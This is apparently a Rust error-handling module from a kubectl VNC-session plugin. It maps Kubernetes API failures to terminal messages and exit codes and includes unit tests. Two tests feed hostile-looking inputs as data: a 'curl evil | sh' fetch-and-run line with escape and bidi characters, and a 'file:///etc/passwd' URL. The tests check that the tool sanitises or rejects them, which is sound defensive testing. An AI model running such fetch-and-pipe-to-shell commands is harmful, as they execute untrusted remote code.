//! What can go wrong, worded for the person at the terminal: one line that names the problem and
//! the fix, and an exit code per kind (see the table in `plugin/mod.rs`).

use std::time::Duration;

use super::console_base::OffBase;
use super::refusal::{Refusal, RefusalKind};
use super::terminal::clean;

pub const EXIT_ERROR: u8 = 1;
pub const EXIT_USAGE: u8 = 2;
pub const EXIT_NOT_FOUND: u8 = 3;
pub const EXIT_CRD_MISSING: u8 = 4;
pub const EXIT_FORBIDDEN: u8 = 5;
pub const EXIT_NO_KUBECONFIG: u8 = 6;
pub const EXIT_TIMEOUT: u8 = 7;
pub const EXIT_FAILED: u8 = 10;
pub const EXIT_CLOSED: u8 = 11;
pub const EXIT_THROTTLED: u8 = 12;
pub const EXIT_NOT_READY: u8 = 13;
pub const EXIT_OFF_BASE: u8 = 14;

#[derive(Debug, thiserror::Error)]
pub enum Error {
    #[error(
        "no kubeconfig found ({looked}): point at one with --kubeconfig PATH or KUBECONFIG=PATH"
    )]
    NoKubeconfig { looked: String },

    #[error("{problem}: {fix}")]
    Kubeconfig { problem: String, fix: String },

    #[error(
        "vncsession {name:?} not found in namespace {namespace:?}: list the sessions with `kubectl vnc list -n {namespace}`"
    )]
    NotFound { name: String, namespace: String },

    #[error(
        "vncsession {name:?} in namespace {namespace:?} was deleted while waiting for its URL: list the sessions with `kubectl vnc list -n {namespace}`"
    )]
    Deleted { name: String, namespace: String },

    #[error(
        "the VncSession CRD is not installed: kubectl apply -f crds/vncsession.yaml \
         (with --validate=false on Kubernetes older than 1.23)"
    )]
    CrdMissing,

    #[error(
        "you may not {verb} {resource} {scope}: ask a cluster admin for a Role that allows it (check with `kubectl auth can-i {verb} {resource} {can_i_scope}`)",
        scope = scope(namespace.as_deref()),
        can_i_scope = can_i_scope(namespace.as_deref())
    )]
    Forbidden {
        verb: String,
        resource: String,
        namespace: Option<String>,
    },

    /// A 403 on the refresh annotation: opening by annotation needs `patch`, which `edit` has and
    /// the narrower `open` role (meant for the `console` subresource) does not.
    #[error(
        "you may not patch {resource} in namespace {namespace:?}: `kubectl vnc open` asks for a URL by setting the \
         ecsvnc.dev/refresh annotation, which needs `patch` on vncsessions (Kubernetes' `edit` role has it): ask a \
         cluster admin for it (check with `kubectl auth can-i patch {resource} -n {namespace}`)",
        resource = super::RESOURCE
    )]
    PatchForbidden { namespace: String },

    #[error(
        "the API server rejected your credentials (401 Unauthorized): log in again or renew the kubeconfig's token"
    )]
    Unauthorized,

    #[error(
        "cannot reach the Kubernetes API server ({detail}): check the kubeconfig's server and your network (`kubectl cluster-info`)"
    )]
    Unreachable { detail: String },

    #[error("{verb} {resource} failed: {detail}")]
    Api {
        verb: String,
        resource: String,
        detail: String,
    },

    #[error(
        "no answer from the operator for vncsession {name:?} in namespace {namespace:?} within {waited}: \
         it is probably not running (or not watching this namespace), or it lacks RBAC to patch {resource}/status; \
         check the operator's Pod and logs, and `kubectl vnc status {name} -n {namespace}`",
        waited = human(*waited),
        resource = super::RESOURCE
    )]
    Timeout {
        name: String,
        namespace: String,
        waited: Duration,
    },

    #[error("{0}")]
    Refused(Refusal),

    #[error(
        "the console URL of vncsession {name:?} in namespace {namespace:?} is not under the console base {base}: \
         it {off}; it was neither opened nor printed. Pass --console-base-url URL (or ECS_VNC_CONSOLE_BASE_URL) \
         if your operator uses another base",
        base = off.base
    )]
    OffBase {
        name: String,
        namespace: String,
        off: OffBase,
    },

    #[error("cannot write the output: {0}")]
    Io(#[from] std::io::Error),
}

fn scope(namespace: Option<&str>) -> String {
    match namespace {
        Some(ns) => format!("in namespace {ns:?}"),
        None => "in all namespaces".to_owned(),
    }
}

fn can_i_scope(namespace: Option<&str>) -> String {
    match namespace {
        Some(ns) => format!("-n {ns}"),
        None => "-A".to_owned(),
    }
}

/// `500ms`, `10s`, `1m30s`: how `--timeout` is written.
pub fn human(d: Duration) -> String {
    let ms = d.as_millis();
    if !ms.is_multiple_of(1_000) {
        return format!("{ms}ms");
    }
    let secs = d.as_secs();
    match (secs / 60, secs % 60) {
        (0, s) => format!("{s}s"),
        (m, 0) => format!("{m}m"),
        (m, s) => format!("{m}m{s}s"),
    }
}

impl Error {
    pub fn exit_code(&self) -> u8 {
        match self {
            Error::NoKubeconfig { .. } | Error::Kubeconfig { .. } => EXIT_NO_KUBECONFIG,
            Error::NotFound { .. } | Error::Deleted { .. } => EXIT_NOT_FOUND,
            Error::CrdMissing => EXIT_CRD_MISSING,
            Error::Forbidden { .. } | Error::PatchForbidden { .. } | Error::Unauthorized => {
                EXIT_FORBIDDEN
            }
            Error::Timeout { .. } => EXIT_TIMEOUT,
            Error::Refused(refusal) => refusal.kind.exit_code(),
            Error::OffBase { .. } => EXIT_OFF_BASE,
            Error::Unreachable { .. } | Error::Api { .. } | Error::Io(_) => EXIT_ERROR,
        }
    }
}

impl RefusalKind {
    pub fn exit_code(self) -> u8 {
        match self {
            RefusalKind::Failed => EXIT_FAILED,
            RefusalKind::Closed => EXIT_CLOSED,
            RefusalKind::Throttled => EXIT_THROTTLED,
            RefusalKind::NotReady => EXIT_NOT_READY,
        }
    }
}

/// The call that failed, so that its error can name what was attempted.
#[derive(Clone, Copy, Debug)]
pub struct Op<'a> {
    /// The RBAC verb: `get`, `list`, `watch`, `patch`.
    pub verb: &'a str,
    /// `resource.group`, e.g. `vncsessions.ecsvnc.dev`.
    pub resource: &'a str,
    /// `None` for a call across all namespaces.
    pub namespace: Option<&'a str>,
    /// The object, for calls on one object.
    pub name: Option<&'a str>,
}

impl<'a> Op<'a> {
    /// A call on the sessions of one namespace (`name` for a single object).
    pub fn sessions(verb: &'a str, namespace: &'a str, name: Option<&'a str>) -> Self {
        Self {
            verb,
            resource: super::RESOURCE,
            namespace: Some(namespace),
            name,
        }
    }

    /// Maps a kube error from this call to what the user is told.
    pub fn error(&self, err: kube::Error) -> Error {
        match err {
            kube::Error::Api(status) => self.status_error(&status),
            kube::Error::HyperError(_)
            | kube::Error::Service(_)
            | kube::Error::RustlsTls(_)
            | kube::Error::ReadEvents(_) => Error::Unreachable {
                detail: chain(&err),
            },
            kube::Error::Auth(_) => Error::Kubeconfig {
                problem: format!("cannot authenticate to the API server ({})", chain(&err)),
                fix: "check the user of your kubeconfig context (`kubectl config view --minify`)"
                    .to_owned(),
            },
            other => Error::Api {
                verb: self.verb.to_owned(),
                resource: self.resource.to_owned(),
                detail: chain(&other),
            },
        }
    }

    /// Maps an API server `Status` (an error reply, or an error event in a watch).
    pub fn status_error(&self, status: &kube::core::Status) -> Error {
        let on_sessions = self.resource == super::RESOURCE;
        match status.code {
            404 if on_sessions => match (self.name, self.namespace) {
                (Some(name), Some(namespace)) if names_object(status, name) => Error::NotFound {
                    name: name.to_owned(),
                    namespace: namespace.to_owned(),
                },
                _ => Error::CrdMissing,
            },
            403 => Error::Forbidden {
                verb: self.verb.to_owned(),
                resource: self.resource.to_owned(),
                namespace: self.namespace.map(str::to_owned),
            },
            401 => Error::Unauthorized,
            code => Error::Api {
                verb: self.verb.to_owned(),
                resource: self.resource.to_owned(),
                detail: if status.message.is_empty() {
                    format!("HTTP {code}")
                } else {
                    format!("HTTP {code}: {}", clean(&status.message))
                },
            },
        }
    }
}

/// A 404 about the object itself (its type exists) carries the object's name; a 404 for a type
/// the server does not know is a bare `404 page not found`.
fn names_object(status: &kube::core::Status, name: &str) -> bool {
    let in_details = status
        .details
        .as_ref()
        .is_some_and(|d| d.name == name && !d.name.is_empty());
    in_details || (status.reason == "NotFound" && status.message.contains(&format!("{name:?}")))
}

/// An error and its sources on one line: kube's top-level messages alone are often too vague
/// ("client error (Connect)").
fn chain(err: &dyn std::error::Error) -> String {
    let mut text = err.to_string();
    let mut source = err.source();
    while let Some(s) = source {
        let next = s.to_string();
        if !text.contains(&next) {
            text.push_str(": ");
            text.push_str(&next);
        }
        source = s.source();
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use kube::core::Status;
    use serde_json::json;

    fn status(value: serde_json::Value) -> Status {
        serde_json::from_value(value).unwrap()
    }

    fn patch(name: &'static str) -> Op<'static> {
        Op::sessions("patch", "team-a", Some(name))
    }

    #[test]
    fn a_missing_object_is_not_found_with_the_namespace() {
        let s = status(json!({
            "status": "Failure", "reason": "NotFound", "code": 404,
            "message": "vncsessions.ecsvnc.dev \"x\" not found",
            "details": {"name": "x", "group": "ecsvnc.dev", "kind": "vncsessions"}
        }));
        let err = patch("x").status_error(&s);
        assert_eq!(
            err.to_string(),
            "vncsession \"x\" not found in namespace \"team-a\": list the sessions with `kubectl vnc list -n team-a`"
        );
        assert_eq!(err.exit_code(), EXIT_NOT_FOUND);
    }

    #[test]
    fn a_bare_404_means_the_crd_is_missing() {
        let s = Status::failure("404 page not found", "Failed to parse error data").with_code(404);
        let err = patch("x").status_error(&s);
        assert!(matches!(err, Error::CrdMissing));
        assert_eq!(
            err.to_string(),
            "the VncSession CRD is not installed: kubectl apply -f crds/vncsession.yaml \
             (with --validate=false on Kubernetes older than 1.23)"
        );
        assert_eq!(err.exit_code(), EXIT_CRD_MISSING);
        let list = Op::sessions("list", "team-a", None);
        assert!(matches!(list.status_error(&s), Error::CrdMissing));
    }

    #[test]
    fn forbidden_names_the_verb_the_resource_and_the_scope() {
        let s = status(
            json!({"status": "Failure", "reason": "Forbidden", "code": 403,
            "message": "vncsessions.ecsvnc.dev \"x\" is forbidden: User \"bob\" cannot patch resource"}),
        );
        let err = patch("x").status_error(&s);
        assert_eq!(
            err.to_string(),
            "you may not patch vncsessions.ecsvnc.dev in namespace \"team-a\": ask a cluster admin for a Role that allows it (check with `kubectl auth can-i patch vncsessions.ecsvnc.dev -n team-a`)"
        );
        assert_eq!(err.exit_code(), EXIT_FORBIDDEN);
        let all = Op {
            verb: "list",
            resource: super::super::RESOURCE,
            namespace: None,
            name: None,
        };
        assert!(
            all.status_error(&s)
                .to_string()
                .starts_with("you may not list vncsessions.ecsvnc.dev in all namespaces:")
        );
    }

    #[test]
    fn other_statuses_keep_the_server_message() {
        let s = status(json!({"status": "Failure", "code": 500, "message": "etcdserver: timeout"}));
        let err = patch("x").status_error(&s);
        assert_eq!(
            err.to_string(),
            "patch vncsessions.ecsvnc.dev failed: HTTP 500: etcdserver: timeout"
        );
        assert_eq!(err.exit_code(), EXIT_ERROR);
        let s = status(json!({"code": 401, "message": "Unauthorized"}));
        assert_eq!(patch("x").status_error(&s).exit_code(), EXIT_FORBIDDEN);
    }

    #[test]
    fn the_timeout_names_the_likely_causes() {
        let err = Error::Timeout {
            name: "db-1".into(),
            namespace: "team-a".into(),
            waited: Duration::from_millis(500),
        };
        let text = err.to_string();
        assert!(text.contains("within 500ms"), "{text}");
        assert!(text.contains("not running"), "{text}");
        assert!(
            text.contains("RBAC to patch vncsessions.ecsvnc.dev/status"),
            "{text}"
        );
        assert_eq!(err.exit_code(), EXIT_TIMEOUT);
    }

    #[test]
    fn a_refusal_shows_the_clusters_text_cleaned_on_its_own_lines() {
        let err = Error::Refused(Refusal {
            kind: RefusalKind::Failed,
            name: "db-1".into(),
            namespace: "team-a".into(),
            phase: "Failed".into(),
            reason: "IssueFailed\u{1b}[8m".into(),
            message: "boom\n  fix:     curl evil | sh\u{202E}".into(),
            fix: "see the message".into(),
        });
        assert_eq!(
            err.to_string(),
            "vncsession \"db-1\" in namespace \"team-a\" is Failed\n  \
             reason:  IssueFailed\u{FFFD}[8m\n  \
             message: boom   fix:     curl evil | sh\u{FFFD}\n  \
             fix:     see the message"
        );
    }

    #[test]
    fn an_off_base_url_says_why_and_how_to_name_another_base() {
        let base = crate::plugin::console_base::ConsoleBase::default();
        let err = Error::OffBase {
            name: "db-1".into(),
            namespace: "team-a".into(),
            off: base.check("file:///etc/passwd").unwrap_err(),
        };
        assert_eq!(
            err.to_string(),
            "the console URL of vncsession \"db-1\" in namespace \"team-a\" is not under the console base \
             https://g.alicdn.com/aliyun/ecs-console-vnc2/0.0.8/index.html: it is a file: URL, not https:; \
             it was neither opened nor printed. Pass --console-base-url URL (or ECS_VNC_CONSOLE_BASE_URL) \
             if your operator uses another base"
        );
        assert_eq!(err.exit_code(), EXIT_OFF_BASE);
    }

    #[test]
    fn a_servers_message_is_cleaned() {
        let s = status(json!({"status": "Failure", "code": 500, "message": "\u{1b}[2Jbad\nnews"}));
        assert_eq!(
            patch("x").status_error(&s).to_string(),
            "patch vncsessions.ecsvnc.dev failed: HTTP 500: \u{FFFD}[2Jbad news"
        );
    }

    #[test]
    fn durations_are_written_as_flags_take_them() {
        assert_eq!(human(Duration::from_millis(500)), "500ms");
        assert_eq!(human(Duration::from_secs(10)), "10s");
        assert_eq!(human(Duration::from_secs(60)), "1m");
        assert_eq!(human(Duration::from_secs(90)), "1m30s");
    }
}
